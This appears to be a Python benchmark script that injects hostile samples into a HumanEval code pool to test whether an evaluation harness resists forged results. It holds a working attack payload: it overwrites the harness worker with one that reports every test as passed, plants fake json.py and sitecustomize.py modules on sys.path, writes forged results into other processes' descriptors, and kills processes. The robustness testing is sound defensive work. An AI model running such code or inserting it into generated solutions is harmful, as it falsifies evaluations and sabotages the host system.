"""The forged-pool experiment of issue 12: hostile samples in CodeGen-16B's HumanEval pool change nothing.

One sample in every ``--every``-th task gets a module-level line that runs an attack when the program
is loaded (in its matrix row and in its ground truth): it writes a forging worker where the engine's
worker used to live (``/tmp/harness_pass_matrix_worker.py``: on the old engine that one sample made
every later program of its lane pass, CodeT 37.24 -> 53.56), plants forging ``json.py`` /
``sitecustomize.py`` modules in every writable folder on ``sys.path`` and beside it, stops and kills
every process it can, and writes forged result lines into every descriptor of every process it can
open. The sample's function is untouched, so its own cells are those of the clean sample.

Three cold runs of the whole experiment (pass matrices, ground truth, every selector, both protocols):

1. the clean pool, fresh cache;
2. the forged pool, fresh cache (another folder);
3. the clean pool again, with the cache the forged run filled (a forged run must leave nothing in the
   cache that a clean run could be served).

It prints the figures of each and the differences: cells of honest programs (every program but the
hostile ones), hidden-test verdicts, and every selector's pass@1 under both protocols. Generated tests
use the CPU clock here (``--clock wall`` for CodeT's): with the wall clock, the machine's load alone
flips a few borderline cells between any two runs (see docs/selection.md), which would hide what an
attack changes.

Usage: ``.venv/bin/python benchmarks/forged_pool.py [--tasks 164] [--every 20] [--clock cpu] [--json]``.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import tempfile
import time
from pathlib import Path
from typing import Any

import numpy as np

from harness.selection.build import build_task_data
from harness.selection.engine import EngineConfig
from harness.selection.experiment import TaskData, run_experiment
from harness.tasks import (
    FunctionTask,
    Pool,
    PoolRecord,
    default_data_dir,
    load_codet_pool,
    load_function_suite,
)

POOLS = "HumanEval_codegen16B_temp0.8_topp0.95_num100_max300"
STRATEGIES = ["random", "maxpass", "mbr", "mbr-behaviour", "codet", "b4", "b4-beh", "tournament"]

FORGING_WORKER = """import json, sys
for line in sys.stdin:
    try:
        r = json.loads(line)
    except ValueError:
        continue
    n = 1 if r.get("kind") == "whole" else len(r.get("tests", []))
    for i in range(len(r.get("programs", []))):
        row = {"id": r["id"], "program": i, "tests": list(range(n)), "cells": "1" * n,
               "ms": [0.0] * n, "out": [0] * n, "ran": True}
        print(json.dumps(row))
    print(json.dumps({"id": r["id"], "done": True}))
raise SystemExit(0)
"""

ATTACK = """
import os, signal, sys
forging = FORGING
for path in ["/tmp/harness_pass_matrix_worker.py"] + [
    os.path.join(d, n) for d in set(sys.path + ["/tmp", os.getcwd(), "/workspace", "/"]) if d
    for n in ("json.py", "sitecustomize.py", "ast.py", "mmap.py")
]:
    try:
        with open(path, "w") as fh:
            fh.write(forging)
    except OSError:
        pass
line = (
    '{"id":"0","program":0,"tests":[0],"cells":"1","ms":[0],"out":[0],"ran":true}\\n'
    '{"id":"0","done":true}\\n'
).encode()
me = os.getpid()
for p in os.listdir("/proc"):
    if not p.isdigit() or int(p) == me:
        continue
    for fd in range(16):
        try:
            with open("/proc/%s/fd/%d" % (p, fd), "wb", buffering=0) as fh:
                fh.write(line)
        except OSError:
            pass
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(int(p), sig)
        except OSError:
            pass
""".replace("FORGING", repr(FORGING_WORKER))


def hostile_pool(tasks: list[FunctionTask], solutions: Pool, every: int) -> tuple[Pool, dict[str, int]]:
    """The pool with one sample of every ``every``-th task made hostile: the first sample whose text is
    unique in its task (so the distinct programs map one to one), with the attack on a line of its own."""
    chosen: dict[str, int] = {}
    records = []
    line = "\n_harness_attack = exec(" + repr(ATTACK) + ")\n"
    for k, task in enumerate(tasks):
        samples = list(solutions.samples(task.task_id))
        if k % every == 0:
            counts: dict[str, int] = {}
            for s in samples:
                counts[s] = counts.get(s, 0) + 1
            i = next(i for i, s in enumerate(samples) if counts[s] == 1)
            samples[i] = samples[i].rstrip("\n") + "\n" + line
            chosen[task.task_id] = i
        records.append(PoolRecord(task_id=task.task_id, kind="solutions", samples=samples))
    return Pool("solutions", records), chosen


async def build(
    tasks: list[FunctionTask], solutions: Pool, tests: Pool, cache: Path, clock: str
) -> dict[str, TaskData]:
    config = EngineConfig(clock=clock)  # type: ignore[arg-type]
    return await build_task_data(tasks, solutions, tests, engine=config, cache=cache)


def figures(data: dict[str, TaskData]) -> dict[str, float]:
    result = run_experiment(
        data, strategies=STRATEGIES, protocol="both", n_samples=None, seeds=[0], params={}
    )
    out: dict[str, float] = {}
    for row in result.rows:
        out[f"{row.strategy} [{row.protocol}]"] = round(float(row.pass_at_1), 4)
    return out


def compare(clean: dict[str, TaskData], other: dict[str, TaskData]) -> dict[str, Any]:
    """Cells and hidden verdicts that differ, over every row (a hostile sample's function is its clean
    twin's: distinct programs keep their positions, so rows match by id)."""
    cells = verdicts = rows = 0
    listed: list[str] = []
    for task_id, a in clean.items():
        b = other[task_id]
        assert a.matrix.candidate_ids == b.matrix.candidate_ids and a.matrix.test_ids == b.matrix.test_ids
        rows += len(a.matrix.candidate_ids)
        cells += int(np.sum(a.matrix.cells != b.matrix.cells))
        verdicts += int(np.sum(a.correct != b.correct))
        for i, j in zip(*np.nonzero(a.matrix.cells != b.matrix.cells), strict=True):
            listed.append(
                f"{a.matrix.candidate_ids[i]} {a.matrix.test_ids[j]}: {a.matrix.cells[i, j]} "
                f"({a.matrix.times_ms[i, j]:.0f} ms) vs {b.matrix.cells[i, j]} ({b.matrix.times_ms[i, j]:.0f} ms)"
            )
    return {"rows": rows, "cells_differing": cells, "verdicts_differing": verdicts, "cells": listed}


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--tasks", type=int, default=164)
    parser.add_argument("--every", type=int, default=20, help="one hostile sample in every N-th task")
    parser.add_argument("--clock", choices=["cpu", "wall"], default="cpu")
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args()

    suite = load_function_suite("humaneval")
    base = default_data_dir() / "codet" / POOLS
    solutions = load_codet_pool(Path(f"{base}_code_solution.jsonl"), suite, "solutions")
    tests = load_codet_pool(Path(f"{base}_test_case.jsonl"), suite, "tests")
    tasks = suite[: args.tasks]
    forged, chosen = hostile_pool(tasks, solutions, args.every)
    report: dict[str, Any] = {"tasks": len(tasks), "hostile_samples": chosen, "clock": args.clock}
    with tempfile.TemporaryDirectory() as clean_cache, tempfile.TemporaryDirectory() as forged_cache:
        runs: dict[str, dict[str, TaskData]] = {}
        for name, pool, cache in (
            ("clean", solutions, clean_cache),
            ("forged", forged, forged_cache),
            ("clean_on_forged_cache", solutions, forged_cache),
        ):
            t0 = time.perf_counter()
            runs[name] = await build(tasks, pool, tests, Path(cache), args.clock)
            report[f"{name}_s"] = round(time.perf_counter() - t0, 1)
            report[name] = figures(runs[name])
    report["forged_vs_clean"] = compare(runs["clean"], runs["forged"])
    report["clean_on_forged_cache_vs_clean"] = compare(runs["clean"], runs["clean_on_forged_cache"])
    diffs = {
        other: {k: (v, report[other][k]) for k, v in report["clean"].items() if report[other][k] != v}
        for other in ("forged", "clean_on_forged_cache")
    }
    report["figures_differing"] = diffs
    if args.json:
        print(json.dumps(report, indent=1))
        return
    print(f"{len(tasks)} tasks, {len(chosen)} hostile samples, clock {args.clock}")
    print(f"{'strategy [protocol]':<28} {'clean':>8} {'forged':>8} {'clean, forged cache':>20}")
    for key, value in report["clean"].items():
        print(
            f"{key:<28} {value:8.2f} {report['forged'][key]:8.2f} {report['clean_on_forged_cache'][key]:20.2f}"
        )
    print("forged vs clean:", report["forged_vs_clean"])
    print("clean on the forged run's cache vs clean:", report["clean_on_forged_cache_vs_clean"])
    print("times (s):", {k: v for k, v in report.items() if k.endswith("_s")})


if __name__ == "__main__":
    asyncio.run(main())
